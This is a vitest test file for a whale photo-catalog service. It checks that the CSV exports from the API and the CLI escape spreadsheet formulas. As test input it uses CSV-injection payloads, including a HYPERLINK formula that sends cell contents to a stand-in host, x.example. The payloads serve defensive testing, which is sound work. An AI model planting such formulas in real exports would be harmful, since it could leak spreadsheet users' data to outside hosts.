import { describe, it, expect, beforeAll } from 'vitest';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { startTestService, type TestService } from '../helpers/service.js';
import { scenePhoto } from '../helpers/photos.js';
import { BACKENDS, onBackend } from '../helpers/backends.js';
import { runCli } from '../helpers/cli.js';
import { spreadsheetSafe } from '../../src/util/spreadsheet-cell.js';

// issue 18 item 7: text typed into the catalog comes out of its CSV exports as text, never as a
// spreadsheet formula
let svc: TestService;
const NAME = '=HYPERLINK("http://x.example/?"&A2,"click")';

for (const backend of BACKENDS) {
  describe.skipIf(backend.skip !== '')(onBackend('CSV exports neutralise formulas', backend), () => {
    let photoId: number;
    beforeAll(async () => {
      svc = await startTestService({}, backend);
      const headers = { authorization: `Bearer ${svc.token}` };
      const form = new FormData();
      form.append('location', '+1-2;=3');
      form.append('by', '@SUM(A1)');
      form.append('photo', new Blob([new Uint8Array(await scenePhoto(70))], { type: 'image/jpeg' }), '-minus.jpg');
      photoId = ((await (await fetch(`${svc.url}/api/photos`, { method: 'POST', body: form, headers })).json()) as { results: { photo: { id: number } }[] }).results[0].photo.id;
      const created = await fetch(`${svc.url}/api/photos/${photoId}/new-individual`, { method: 'POST', headers: { ...headers, 'content-type': 'application/json' }, body: JSON.stringify({ name: NAME }) });
      expect(created.status).toBe(200);
    }, 240_000);

    const rowOf = (csv: string): Record<string, string> => (parse(csv, { columns: true }) as Record<string, string>[]).find((r) => r.PhotoId === String(photoId))!;
    const expectSafe = (row: Record<string, string>): void => {
      expect(row).toMatchObject({ Id: `'${NAME}`, OriginalName: "'-minus.jpg", Location: "'+1-2;'=3", UploadedBy: "'@SUM(A1)" });
      expect(Number(row.x0 || '0')).not.toBeNaN();
    };

    it('in /api/export.csv', async () => {
      const res = await fetch(`${svc.url}/api/export.csv`);
      expect(res.status).toBe(200);
      expectSafe(rowOf(await res.text()));
    });

    it('in `whaleid catalog export`', async () => {
      const out = path.join(svc.dir, `export-${backend.name}.csv`);
      const r = await runCli('catalog', 'export', '--catalog', svc.catalog.file, '--photos', svc.catalog.photoFiles.dir, '--out', out);
      expect(r.code, r.err).toBe(0);
      expectSafe(rowOf(readFileSync(out, 'utf8')));
    });

    it('for every formula start, and only text cells', () => {
      for (const c of ['=1', '+1', '-1', '@A1', '\tx', '\rx']) expect(spreadsheetSafe(c)).toBe(`'${c}`);
      expect(spreadsheetSafe('Salt')).toBe('Salt');
      // issue 32 item 11: a spreadsheet that splits on ';' (or tab, '|') makes the rest a cell of its own
      expect(spreadsheetSafe('Salt;=HYPERLINK("x")')).toBe('Salt;\'=HYPERLINK("x")');
      expect(spreadsheetSafe('a; "@SUM(A1)')).toBe('a; "\'@SUM(A1)');
      expect(spreadsheetSafe('=1;+2|-3\t@4')).toBe("'=1;'+2|'-3\t'@4");
      expect(spreadsheetSafe('Salt; left fluke, 2 m')).toBe('Salt; left fluke, 2 m');
      expect(spreadsheetSafe(-12.5)).toBe(-12.5);
      expect(spreadsheetSafe(null)).toBe(null);
    });
  });
}
